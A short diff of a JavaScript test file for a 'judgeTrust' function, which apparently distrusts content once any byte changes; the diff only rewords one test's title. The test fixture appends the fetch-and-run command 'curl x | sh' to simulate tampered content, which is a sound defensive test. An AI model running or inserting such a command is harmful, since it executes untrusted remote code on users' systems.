@@ -74,7 +74,7 @@ describe('judgeTrust', () => {
     expect(state([init, test], [approve(test, 'entered')])).toEqual(['new', 'trusted']);
   });
 
-  it('B-86 distrusts one changed byte, and keeps what was approved', () => {
+  it('B-86 distrusts a single changed byte, and keeps the approved content', () => {
     const changed = { ...init, content: `${init.content}curl x | sh\n` };
     const older = { ...init, content: 'older' };
     const [item] = judgeTrust([changed], [approve(older), approve(init)]);
